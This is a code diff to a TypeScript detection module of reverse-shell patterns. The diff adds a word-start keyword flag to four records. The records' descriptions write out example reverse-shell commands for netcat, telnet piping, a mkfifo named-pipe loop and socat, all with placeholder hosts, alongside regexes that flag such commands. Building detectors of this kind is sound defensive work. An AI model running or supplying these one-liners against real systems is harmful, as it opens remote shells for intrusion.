@@ -201,6 +201,7 @@ export const REVERSE_SHELL_PATTERNS: PatternRecord[] = [
     severity: 'critical',
     description: 'netcat/ncat handing a socket to a shell (nc -e /bin/sh HOST PORT, ncat --exec bash, nc -lvp 4444 -e cmd.exe)',
     keywords: ['nc', 'netcat'],
+    keywordsAtWordStart: true,
     regex: new RegExp(
       String.raw`(?<![\w.-])(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)(?:\.exe)?(?=\s)(?:[^\n|;&n]|n(?!c[\s.]|cat[\s.]|etcat[\s.])){0,200}?\s(?:-[a-zA-Z]{0,6}e|-c|--exec|--sh-exec|--lua-exec)[ \t=]{1,4}['"]?${SHELLISH}\b`,
       'g',
@@ -222,6 +223,7 @@ export const REVERSE_SHELL_PATTERNS: PatternRecord[] = [
     severity: 'critical',
     description: 'a network stream piped into a shell (nc HOST PORT | /bin/sh | nc HOST PORT2, telnet HOST PORT | bash)',
     keywords: ['nc', 'netcat', 'telnet'],
+    keywordsAtWordStart: true,
     regex: new RegExp(
       String.raw`(?<![\w.-])(?:nc|ncat|netcat|telnet)(?=\s)(?:[^\n|;&nt]|n(?!c[\s.]|cat[\s.]|etcat[\s.])|t(?!elnet\s)){1,150}\|\s{0,4}${SINK}`,
       'g',
@@ -238,6 +240,7 @@ export const REVERSE_SHELL_PATTERNS: PatternRecord[] = [
     severity: 'critical',
     description: 'named-pipe loop between a shell and a network tool (rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc HOST PORT >/tmp/f)',
     keywords: ['mkfifo', 'mknod'],
+    keywordsAtWordStart: true,
     regex: new RegExp(
       String.raw`(?<![\w.-])mk(?:fifo|nod)\s(?:[^\nm]|m(?!k(?:fifo|nod)\s)){0,300}?(?:(?:^|[\s|;&(])${SHELLISH}\b[^\n|]{0,60}\|\s{0,4}(?:\S{0,20}\/)?(?:nc|ncat|netcat|telnet|openssl|socat)\b|\b(?:nc|ncat|netcat|telnet|openssl\s{1,4}s_client|socat)\b[^\n|]{0,150}\|\s{0,4}${SHELLISH}\b)`,
       'g',
@@ -263,6 +266,7 @@ export const REVERSE_SHELL_PATTERNS: PatternRecord[] = [
     severity: 'critical',
     description: "socat joining a network address to a shell (socat exec:'bash -li',pty tcp:HOST:PORT)",
     keywords: ['socat'],
+    keywordsAtWordStart: true,
     regex: new RegExp(
       String.raw`(?<![\w.-])socat\b(?:[^\n|;&sS]|[sS](?!ocat\b)){0,300}?\b(?:exec|system):['"]?${SHELLISH}\b`,
       'gi',
